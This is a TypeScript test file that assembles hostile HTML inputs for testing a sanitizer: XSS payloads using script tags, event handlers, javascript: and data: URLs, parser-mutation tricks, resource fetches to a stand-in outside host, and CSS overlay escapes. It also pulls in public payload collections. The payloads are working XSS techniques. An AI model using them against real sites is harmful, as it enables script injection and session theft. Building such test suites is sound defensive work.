/* Hostile HTML: our own list, and where CORPUS names a directory with collections of others, theirs too. Ours call canary(). */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";

const OUTSIDE = "https://outside.example";

const SCRIPTS = [
	`<script>canary()</script>`,
	`<scr<script>ipt>canary()</scr</script>ipt>`,
	`<script src="${OUTSIDE}/x.js"></script>`,
	`<script\x0btype="text/javascript">canary()</script>`,
	`<svg><script>canary()</script></svg>`,
	`<svg><script href="data:text/javascript,canary()"></script></svg>`,
	`<math><script>canary()</script></math>`,
	`<noscript><p title="</noscript><img src=x onerror=canary()>"></noscript>`,
	`<template><script>canary()</script></template>`,
	`<xmp><p title="</xmp><img src=x onerror=canary()>"></xmp>`,
	`<textarea><img title="</textarea><img src=x onerror=canary()>"></textarea>`,
	`<title><img title="</title><img src=x onerror=canary()>"></title>`,
	`<style><img title="</style><img src=x onerror=canary()>"></style>`,
	`<!--><img src=x onerror=canary()>-->`,
	`<!--!><img src=x onerror=canary()>--!>`,
	`<![CDATA[<img src=x onerror=canary()>]]>`,
	`<?xml version="1.0"?><img src=x onerror=canary()>`,
	`<img src=x onerror=canary()//`,
	`<<img src=x onerror=canary()>`,
	`<a title="<img src=x onerror=canary()>">x</a>`,
];

const HANDLERS = [
	`<img src=x onerror=canary()>`,
	`<img/src=x/onerror=canary()>`,
	`<img src=x onerror\x0c=\x0ccanary()>`,
	`<img src='x'onerror='canary()'>`,
	`<img src=x OnErRoR="canary()">`,
	`<body onload=canary()>`,
	`<svg onload=canary()>`,
	`<svg/onload=canary()>`,
	`<details open ontoggle=canary()>x</details>`,
	`<input autofocus onfocus=canary()>`,
	`<select autofocus onfocus=canary()></select>`,
	`<video src=x onerror=canary()></video>`,
	`<audio src=x onerror=canary()></audio>`,
	`<video><source onerror=canary() src=x></video>`,
	`<marquee onstart=canary()>x</marquee>`,
	`<p style="animation-name:x" onanimationstart=canary()>x</p>`,
	`<style>@keyframes x{}</style><b style="animation:x 1s" onanimationend=canary()>x</b>`,
	`<div onpointerrawupdate=canary() onmouseover=canary() onfocus=canary() tabindex=0>x</div>`,
	`<iframe onload=canary()></iframe>`,
	`<object data="data:text/html,<script>parent.canary()</script>" onload=canary()></object>`,
	`<button popovertarget=x>y</button><div popover id=x onbeforetoggle=canary()>z</div>`,
	`<svg><animate onbegin=canary() attributeName=x dur=1s></svg>`,
	`<svg><set attributeName="onload" to="canary()"/></svg>`,
	`<a onclick=canary() href="https://ok.example">x</a>`,
];

const ADDRESSES = [
	`<a href="javascript:canary()">x</a>`,
	`<a href="java\nscript:canary()">x</a>`,
	`<a href=" &#14; javascript:canary()">x</a>`,
	`<a href="&#x6A;avascript&colon;canary()">x</a>`,
	`<a href="JaVaScRiPt:canary()">x</a>`,
	`<a href="vbscript:canary()">x</a>`,
	`<a href="data:text/html,<script>canary()</script>">x</a>`,
	`<a href="blob:${OUTSIDE}/1">x</a>`,
	`<a href="filesystem:${OUTSIDE}/1">x</a>`,
	`<area shape=default href="javascript:canary()">`,
	`<svg><a xlink:href="javascript:canary()"><text y=20>x</text></a></svg>`,
	`<svg><a><animate attributeName=href values="javascript:canary()"/><text y=20>x</text></a></svg>`,
	`<math href="javascript:canary()">x</math>`,
	`<math><maction actiontype="statusline#" xlink:href="javascript:canary()">x</maction></math>`,
	`<form action="javascript:canary()"><button>x</button></form>`,
	`<form id=f></form><button form=f formaction="javascript:canary()">x</button>`,
	`<iframe src="javascript:parent.canary()"></iframe>`,
	`<iframe srcdoc="<script>parent.canary()</script>"></iframe>`,
	`<embed src="javascript:canary()">`,
	`<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'/>">`,
	`<img src="javascript:canary()">`,
	`<base href="javascript:/canary()//"><a href="#">x</a>`,
	`<meta http-equiv=refresh content="0;url=javascript:canary()">`,
	`<meta http-equiv=refresh content="0;url=${OUTSIDE}/go">`,
	`<link rel=import href="${OUTSIDE}/x.html">`,
];

const FETCHES = [
	`<img src="${OUTSIDE}/pixel.png">`,
	`<img srcset="${OUTSIDE}/2x.png 2x">`,
	`<picture><source srcset="${OUTSIDE}/s.png"><img alt=x></picture>`,
	`<img src="//outside.example/p.png">`,
	`<img src="/desk/v1/session">`,
	`<image src="${OUTSIDE}/i.png">`,
	`<body background="${OUTSIDE}/b.png">`,
	`<table background="${OUTSIDE}/t.png"><tr><td background="${OUTSIDE}/d.png">x</table>`,
	`<p style="background:url(${OUTSIDE}/bg.png)">x</p>`,
	`<p style="background:u\\72l(${OUTSIDE}/bg2.png)">x</p>`,
	`<p style="background:ur/**/l(${OUTSIDE}/bg3.png)">x</p>`,
	`<p style="background-image:image-set('${OUTSIDE}/is.png' 1x)">x</p>`,
	`<p style="background-image:-webkit-image-set(url(${OUTSIDE}/wis.png) 1x)">x</p>`,
	`<p style="list-style-image:url(${OUTSIDE}/li.png);display:list-item">x</p>`,
	`<p style="cursor:url(${OUTSIDE}/c.png),auto">x</p>`,
	`<p style="border-image:url(${OUTSIDE}/bi.png) 30">x</p>`,
	`<p style="mask-image:url(${OUTSIDE}/m.png)">x</p>`,
	`<p style="content:url(${OUTSIDE}/ct.png)">x</p>`,
	`<p style="shape-outside:url(${OUTSIDE}/so.png);float:left">x</p>`,
	`<p style="filter:url(${OUTSIDE}/f.svg#x)">x</p>`,
	`<p style="--x:url(${OUTSIDE}/v.png);background:var(--x)">x</p>`,
	`<style>@import "${OUTSIDE}/s.css"; p{background:url(${OUTSIDE}/sp.png)}</style><p>x</p>`,
	`<style>@font-face{font-family:f;src:url(${OUTSIDE}/f.woff)}*{font-family:f}</style>x`,
	`<link rel=stylesheet href="${OUTSIDE}/l.css">`,
	`<link rel=preload as=image href="${OUTSIDE}/pre.png">`,
	`<link rel=dns-prefetch href="${OUTSIDE}">`,
	`<video poster="${OUTSIDE}/poster.png"></video>`,
	`<audio src="${OUTSIDE}/a.mp3" autoplay></audio>`,
	`<video><track default src="${OUTSIDE}/t.vtt"></video>`,
	`<object data="${OUTSIDE}/o"></object>`,
	`<embed src="${OUTSIDE}/e">`,
	`<iframe src="${OUTSIDE}/f"></iframe>`,
	`<frameset><frame src="${OUTSIDE}/fr"></frameset>`,
	`<input type=image src="${OUTSIDE}/in.png">`,
	`<svg><image href="${OUTSIDE}/si.png"/></svg>`,
	`<svg><use href="${OUTSIDE}/u.svg#x"/></svg>`,
	`<svg><feImage href="${OUTSIDE}/fe.png"/></svg>`,
	`<svg><style>*{fill:url(${OUTSIDE}/fill.svg#x)}</style><rect width=9 height=9 /></svg>`,
	`<svg><rect fill="url(${OUTSIDE}/ff.svg#x)" width=9 height=9 /></svg>`,
	`<a href="https://ok.example" ping="${OUTSIDE}/ping">x</a>`,
];

const MUTATIONS = [
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">`,
	`<svg></p><style><a title="</style><img src=x onerror=canary()>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>`,
	`<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=canary() src>">`,
	`<svg><p><style><g title="</style><img src=x onerror=canary()>">`,
	`<p><svg><title><style><a title="</style></title><img src=x onerror=canary()>">`,
	`<table><td><svg><desc><td><style><b title="</style><img src=x onerror=canary()>">`,
	`<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=canary()>">`,
	`<noembed><p title="</noembed><img src=x onerror=canary()>"></noembed>`,
	`<annotation-xml encoding="text/html"><style><a title="</style><img src=x onerror=canary()>">`,
	`<math><annotation-xml encoding="text/html"><p><style><i title="</style><img src=x onerror=canary()>">`,
	`<a><a><b><table><a><img src=x onerror=canary()>`,
	`${"<b>".repeat(700)}<img src=x onerror=canary()>`,
	`${"<table><tr><td>".repeat(200)}<img src=x onerror=canary()>`,
	`<img name=getElementById><form name=body><input name=attributes><input name=parentNode><img src=x onerror=canary()></form>`,
	`<a id=canary></a><a id=canary name=x href="javascript:canary()"></a>`,
	`<div is=x-y slot=z part=q id=root class=app name=location>x</div>`,
	`<p title="&quot;&gt;&lt;img src=x onerror=canary()&gt;">x</p>`,
	"<p title=`<img src=x onerror=canary()>`>x</p>",
	`\ufeff<img src=x onerror=canary()>`,
	`<img src=x\u2028onerror=canary()>`,
	`<i\u0000mg src=x onerror=canary()>`,
];

/* What tries to paint outside of its place. */
export const ESCAPES = [
	`<div style="position:fixed;inset:0;background:red;z-index:2147483647">over</div>`,
	`<div style="po\\73ition:fixed;top:0;left:0;width:100vw;height:100vh;background:red">over</div>`,
	`<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;background:red">over</div>`,
	`<div style="margin:-3000px;padding:3000px;background:red">over</div>`,
	`<div style="transform:translate(-800px,-400px) scale(40);background:red">over</div>`,
	`<div style="translate:-800px -400px;scale:40;background:red">over</div>`,
	`<div style="width:99999px;margin-left:-5000px;height:200px;background:red">over</div>`,
	`<div style="box-shadow:0 0 0 9999px red;outline:9999px solid red">over</div>`,
	`<div style="position:sticky;top:0;background:red">over</div>`,
	`<table style="position:relative;left:-600px;top:-300px" width=4000 height=4000 bgcolor=red><tr><td>over</table>`,
	`<dialog open style="position:fixed;inset:0">over</dialog>`,
	`<style>:host,*{position:fixed!important;inset:0!important;background:red!important}</style>over`,
	`<div style="float:left;margin-left:-900px;width:900px;height:900px;background:red">over</div>`,
];

const OURS = [...SCRIPTS, ...HANDLERS, ...ADDRESSES, ...FETCHES, ...MUTATIONS, ...ESCAPES];

/* Every string in a JSON file that holds a tag or an entity. */
function stringsIn(value: unknown): string[] {
	if (typeof value === "string") return /[<&]/.test(value) ? [value] : [];
	return typeof value === "object" && value !== null ? Object.values(value).flatMap(stringsIn) : [];
}

function codeBlocks(markdown: string): string[] {
	return [...markdown.matchAll(/```\w*\n([\s\S]*?)```/g)].flatMap((m) => (m[1] ?? "").split(/\n(?=<)/));
}

function filesIn(dir: string, ending: RegExp): string[] {
	if (!existsSync(dir)) return [];
	return readdirSync(dir, { recursive: true, encoding: "utf8" })
		.filter((name) => ending.test(name))
		.map((name) => readFileSync(join(dir, name), "utf8"));
}

const MAX_PAYLOAD_CHARS = 20_000;

export function payloads(): string[] {
	const corpus = process.env.CORPUS;
	const theirs = corpus
		? [
				...["xss-bleach", "xss-dompurify", "xss-owasp-java"].flatMap((name) =>
					filesIn(join(corpus, name), /\.json$/).flatMap((text) => stringsIn(JSON.parse(text))),
				),
				...filesIn(join(corpus, "xss-bleach"), /\.test$/).map((text) => text.split("\n--\n")[0] ?? ""),
				...filesIn(join(corpus, "xss-svg-cheatsheet"), /\.md$/).flatMap(codeBlocks),
				...filesIn(join(corpus, "payloads-all-the-things/XSS Injection/Files"), /\.(html|svg|xml)$/i),
				...filesIn(join(corpus, "payloads-all-the-things/XSS Injection"), /\.(txt|md)$/i).flatMap((text) =>
					text.split("\n").filter((line) => /<\w/.test(line)),
				),
			]
		: [];
	/* Their alarms are alert() in many spellings: the page replaces alert, confirm, prompt and print. */
	return [...new Set([...OURS, ...theirs])].filter((text) => text.trim() && text.length <= MAX_PAYLOAD_CHARS);
}
